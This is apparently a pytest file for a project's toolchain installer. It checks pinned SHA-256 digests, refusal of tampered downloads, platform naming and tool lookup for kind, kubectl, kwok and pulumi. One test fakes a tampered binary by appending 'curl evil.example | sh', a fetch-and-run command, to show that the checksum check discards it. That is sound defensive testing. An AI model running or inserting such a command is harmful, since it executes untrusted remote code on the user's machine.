"""Offline tests for finding and installing the external CLIs: no network, no real binaries."""
from __future__ import annotations

import dataclasses
import hashlib
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from infra import toolchain
from infra.errors import LabsError
from infra.paths import PROJECT_ROOT

GENUINE = b"#!/bin/sh\necho 'kind v0.32.0 (test double)'\n"
KIND_URL = "https://github.com/kubernetes-sigs/kind/releases/download/v0.32.0/kind-linux-amd64"


@pytest.fixture
def tools(tmp_path, monkeypatch) -> Path:
    root = tmp_path / "tools"
    monkeypatch.setenv("LABS_TOOLS_DIR", str(root))
    return root


@pytest.fixture
def served(tmp_path):
    """A `download` double serving local bytes and recording the URLs asked for."""

    class Server:
        def __init__(self):
            self.content = GENUINE
            self.urls: list[str] = []

        def __call__(self, url: str, dest: Path) -> None:
            self.urls.append(url)
            dest.write_bytes(self.content)

    return Server()


def pin_kind(monkeypatch, sha256: dict[str, str]) -> None:
    monkeypatch.setitem(toolchain.PINS, "kind", dataclasses.replace(toolchain.PINS["kind"], sha256=sha256))


def make_executable(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)
    return path


def test_install_verifies_checksum_and_installs_an_executable(tools, served, monkeypatch):
    pin_kind(monkeypatch, {"linux-amd64": hashlib.sha256(GENUINE).hexdigest()})

    installed = toolchain.install_tool("kind", download=served, platform="linux-amd64")

    assert installed == tools / "bin" / "kind"
    assert installed.read_bytes() == GENUINE
    assert os.access(installed, os.X_OK)
    assert stat.S_IMODE(installed.stat().st_mode) == 0o755
    assert served.urls == [KIND_URL]
    assert [p.name for p in tools.iterdir()] == ["bin"], "no partial download left behind"


def test_tampered_download_is_discarded_and_nothing_is_installed(tools, served, monkeypatch):
    pin_kind(monkeypatch, {"linux-amd64": hashlib.sha256(GENUINE).hexdigest()})
    served.content = GENUINE + b"curl evil.example | sh\n"

    with pytest.raises(LabsError) as error:
        toolchain.install_tool("kind", download=served, platform="linux-amd64")

    message = str(error.value)
    assert message.startswith("checksum mismatch for kind v0.32.0 linux-amd64: expected ")
    assert f"got {hashlib.sha256(served.content).hexdigest()}" in message
    assert "the download was discarded" in message
    assert "\n" not in message
    assert list((tools / "bin").iterdir()) == []
    assert [p.name for p in tools.iterdir()] == ["bin"]


def test_installed_file_matching_the_pin_is_not_downloaded_again(tools, served, monkeypatch):
    pin_kind(monkeypatch, {"linux-amd64": hashlib.sha256(GENUINE).hexdigest()})
    first = toolchain.install_tool("kind", download=served, platform="linux-amd64")

    second = toolchain.install_tool("kind", download=served, platform="linux-amd64")

    assert second == first
    assert len(served.urls) == 1


def test_installed_file_with_another_digest_is_replaced(tools, served, monkeypatch):
    pin_kind(monkeypatch, {"linux-amd64": hashlib.sha256(GENUINE).hexdigest()})
    make_executable(tools / "bin" / "kind").write_text("#!/bin/sh\necho old kind\n")

    installed = toolchain.install_tool("kind", download=served, platform="linux-amd64")

    assert installed.read_bytes() == GENUINE
    assert served.urls == [KIND_URL]


def test_platform_without_a_pinned_checksum_is_refused_before_downloading(tools, served, monkeypatch):
    pin_kind(monkeypatch, {})

    with pytest.raises(LabsError, match=r"no checksum pinned yet for kind v0\.32\.0 darwin-arm64.*by hand"):
        toolchain.install_tool("kind", download=served, platform="darwin-arm64")

    assert served.urls == []
    assert not (tools / "bin" / "kind").exists()


def test_kubectl_url_follows_the_kubernetes_release_layout(tools, served, monkeypatch):
    digest = hashlib.sha256(GENUINE).hexdigest()
    pin = dataclasses.replace(toolchain.PINS["kubectl"], sha256={"darwin-arm64": digest})
    monkeypatch.setitem(toolchain.PINS, "kubectl", pin)

    toolchain.install_tool("kubectl", download=served, platform="darwin-arm64")

    assert served.urls == ["https://dl.k8s.io/release/v1.36.1/bin/darwin/arm64/kubectl"]


def test_network_failure_becomes_a_one_line_labs_error(tmp_path):
    missing = tmp_path / "nowhere" / "kind"

    with pytest.raises(LabsError) as error:
        toolchain.download_file(missing.as_uri(), tmp_path / "out")

    message = str(error.value)
    assert message.startswith(f"could not download {missing.as_uri()}: ")
    assert "rerun `invoke setup`" in message
    assert "\n" not in message


@pytest.mark.parametrize("tool", ["kind", "kubectl"])
def test_every_supported_platform_has_a_sha256_pin(tool):
    pin = toolchain.PINS[tool]
    assert re.fullmatch(r"v\d+\.\d+\.\d+", pin.version)
    assert set(pin.sha256) == set(toolchain.SUPPORTED_PLATFORMS)
    for digest in pin.sha256.values():
        assert re.fullmatch(r"[0-9a-f]{64}", digest)
    assert len(set(pin.sha256.values())) == len(pin.sha256), "each platform has its own binary"


def _version_tuple(version: str) -> tuple[int, ...]:
    return tuple(int(part) for part in version.lstrip("v").split("."))


def test_pulumi_cli_pin_is_at_least_the_sdk_pinned_in_pyproject():
    """The Automation API refuses a CLI older than its SDK; a newer one is the supported pairing."""
    sdk = re.search(r'"pulumi==([0-9.]+)"', (PROJECT_ROOT / "pyproject.toml").read_text()).group(1)
    assert _version_tuple(toolchain.PULUMI_VERSION) >= _version_tuple(sdk)


def test_provider_plugin_pin_matches_the_kubernetes_sdk_pinned_in_pyproject():
    pyproject = (PROJECT_ROOT / "pyproject.toml").read_text()
    assert f'"pulumi-kubernetes=={toolchain.KUBERNETES_PROVIDER_VERSION}"' in pyproject
    assert toolchain.SOURCE_PINS["pulumi-kubernetes"].shown_version == toolchain.KUBERNETES_PROVIDER_VERSION


def test_versions_shared_by_downloads_and_source_builds_are_pinned_once():
    assert toolchain.SOURCE_PINS["kubernetes"].version == toolchain.PINS["kubectl"].version
    assert toolchain.SOURCE_PINS["pulumi"].version == f"v{toolchain.PULUMI_VERSION}"
    assert toolchain.SOURCE_PINS["kwok"].version == toolchain.PINS["kwok"].version == toolchain.PINS["kwokctl"].version


@pytest.mark.parametrize("tool", ["kwokctl", "kwok"])
def test_kwok_downloads_follow_the_release_layout_and_pin_only_real_digests(tool):
    pin = toolchain.PINS[tool]
    assert pin.url("linux-amd64") == f"https://github.com/kubernetes-sigs/kwok/releases/download/v0.8.0/{tool}-linux-amd64"
    assert set(pin.sha256) <= set(toolchain.SUPPORTED_PLATFORMS)
    for digest in pin.sha256.values():
        assert re.fullmatch(r"[0-9a-f]{64}", digest)


def test_kwok_without_a_pinned_digest_is_refused_with_the_manual_route(tools, served, monkeypatch):
    monkeypatch.setitem(toolchain.PINS, "kwokctl", dataclasses.replace(toolchain.PINS["kwokctl"], sha256={}))

    with pytest.raises(LabsError, match=r"no checksum pinned yet for kwokctl v0\.8\.0 linux-amd64.*kwok\.sigs\.k8s\.io"):
        toolchain.install_tool("kwokctl", download=served, platform="linux-amd64")

    assert served.urls == []


@pytest.mark.parametrize(
    ("system", "machine", "expected"),
    [("Linux", "x86_64", "linux-amd64"), ("Linux", "aarch64", "linux-arm64"),
     ("Darwin", "arm64", "darwin-arm64"), ("Darwin", "x86_64", "darwin-amd64")],
)
def test_platform_key_uses_release_naming(system, machine, expected):
    assert toolchain.platform_key(system, machine) == expected


def test_unsupported_platform_is_refused_with_a_manual_route():
    with pytest.raises(LabsError, match=r"unsupported platform linux-riscv64: .*kind\.sigs\.k8s\.io"):
        toolchain.platform_key("Linux", "riscv64")


def test_find_tool_prefers_the_tools_dir_over_path(tools, tmp_path, monkeypatch):
    on_path = make_executable(tmp_path / "path-bin" / "kubectl")
    ours = make_executable(tools / "bin" / "kubectl")
    monkeypatch.setenv("PATH", str(on_path.parent))

    assert toolchain.find_tool("kubectl") == str(ours)
    ours.unlink()
    assert toolchain.find_tool("kubectl") == str(on_path)


def test_find_tool_finds_the_pulumi_cli_where_the_sdk_installs_it(tools, monkeypatch):
    monkeypatch.setenv("PATH", "")
    sdk_installed = make_executable(tools / "pulumi" / "bin" / "pulumi")

    assert toolchain.find_tool("pulumi") == str(sdk_installed)


def test_find_tool_ignores_a_non_executable_file(tools, monkeypatch):
    monkeypatch.setenv("PATH", "")
    (tools / "bin").mkdir(parents=True)
    (tools / "bin" / "kind").write_text("half-written")

    assert toolchain.find_tool("kind") is None


def test_require_tool_names_the_tool_and_how_to_get_it(tools, monkeypatch):
    monkeypatch.setenv("PATH", "")

    with pytest.raises(LabsError) as kind_error:
        toolchain.require_tool("kind")
    with pytest.raises(LabsError) as docker_error:
        toolchain.require_tool("docker")

    assert str(kind_error.value) == (
        f"kind not found: run `invoke setup` (installs kind v0.32.0 into {tools}) "
        "or see https://kind.sigs.k8s.io/docs/user/quick-start/#installation"
    )
    assert str(docker_error.value).startswith("docker not found: Docker is yours to install")
    assert "https://docs.docker.com/get-docker/" in str(docker_error.value)


def test_install_pulumi_delegates_to_the_sdk_at_the_pinned_version(tools, monkeypatch):
    from pulumi.automation import PulumiCommand

    calls = []

    def recording_install(cls, root, version):
        calls.append((root, version))

    monkeypatch.setattr(PulumiCommand, "install", classmethod(recording_install))

    installed = toolchain.install_pulumi()

    assert [(root, str(version)) for root, version in calls] == [(str(tools / "pulumi"), "3.274.0")]
    assert installed == tools / "pulumi" / "bin" / "pulumi"


def test_install_pulumi_failure_is_one_line_with_the_fix(tools, monkeypatch):
    from pulumi.automation import PulumiCommand

    def failing_install(cls, root, version):
        output = b"downloading...\nerror: 404 Not Found\n"
        raise subprocess.CalledProcessError(1, ["install.sh"], output=output)

    monkeypatch.setattr(PulumiCommand, "install", classmethod(failing_install))

    with pytest.raises(LabsError) as error:
        toolchain.install_pulumi()

    message = str(error.value)
    assert "could not install the Pulumi CLI 3.274.0" in message
    assert "error: 404 Not Found" in message
    assert "https://www.pulumi.com/docs/install/" in message
    assert "\n" not in message


def test_setup_installs_each_tool_in_order_and_says_docker_is_not_installed(tools, monkeypatch):
    installed = []
    monkeypatch.setattr(toolchain, "install_pulumi", lambda: installed.append("pulumi") or Path("/p/pulumi"))
    monkeypatch.setattr(toolchain, "install_tool", lambda name: installed.append(name) or Path(f"/b/{name}"))
    monkeypatch.setattr(toolchain, "current_platform", lambda: "linux-amd64")
    for tool in ("kwokctl", "kwok"):
        pin = dataclasses.replace(toolchain.PINS[tool], sha256={"linux-amd64": "0" * 64})
        monkeypatch.setitem(toolchain.PINS, tool, pin)
    printed = []

    summary = toolchain.setup(console_print=printed.append)

    assert installed == ["pulumi", "kind", "kubectl", "kwokctl", "kwok"]
    assert summary[:5] == [
        "pulumi 3.274.0: ready at /p/pulumi",
        "kind v0.32.0: ready at /b/kind",
        "kubectl v1.36.1: ready at /b/kubectl",
        "kwokctl v0.8.0: ready at /b/kwokctl",
        "kwok v0.8.0: ready at /b/kwok",
    ]
    assert summary[5].startswith("docker: not installed by setup")
    assert all(line in printed for line in summary)


def test_setup_goes_on_without_kwok_where_its_digest_is_not_pinned(tools, monkeypatch):
    installed = []
    monkeypatch.setattr(toolchain, "install_pulumi", lambda: installed.append("pulumi") or Path("/p/pulumi"))
    monkeypatch.setattr(toolchain, "install_tool", lambda name: installed.append(name) or Path(f"/b/{name}"))
    monkeypatch.setattr(toolchain, "current_platform", lambda: "darwin-arm64")
    monkeypatch.setitem(toolchain.PINS, "kwok", dataclasses.replace(toolchain.PINS["kwok"], sha256={}))
    monkeypatch.setitem(toolchain.PINS, "kwokctl", dataclasses.replace(toolchain.PINS["kwokctl"], sha256={}))

    summary = toolchain.setup(console_print=lambda line: None)

    assert installed == ["pulumi", "kind", "kubectl"]
    assert summary[3] == (
        "kwokctl v0.8.0: not installed: no checksum pinned yet for darwin-arm64 in infra/toolchain.py; "
        "`invoke setup --from-source` builds it, or install it by hand "
        "(https://kwok.sigs.k8s.io/docs/user/installation/)"
    )
    assert summary[4].startswith("kwok v0.8.0: not installed: no checksum pinned yet")


def test_install_hint_for_a_tool_only_built_from_source(tools):
    assert toolchain.install_hint("etcd") == (
        f"run `invoke setup --from-source` (builds etcd v3.7.3 from go.etcd.io/etcd/server/v3 into {tools}; "
        "needs Go >= 1.26)"
    )
    assert "`invoke setup --from-source`" in toolchain.install_hint("kwokctl")
    assert toolchain.install_hint("kwokctl").startswith("run `invoke setup` (installs kwokctl v0.8.0 into ")


def test_provider_plugin_lives_where_pulumi_looks_with_our_pulumi_home(tools):
    assert toolchain.provider_plugin_path() == (
        tools / "pulumi-home" / "plugins" / "resource-kubernetes-v4.25.0" / "pulumi-resource-kubernetes"
    )


def test_importing_toolchain_doctor_and_source_build_does_not_import_pulumi():
    probe = "import sys, infra.toolchain, infra.doctor, infra.source_build; print('pulumi' in sys.modules)"
    result = subprocess.run(
        [sys.executable, "-c", probe], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60, check=True
    )
    assert result.stdout.strip() == "False"
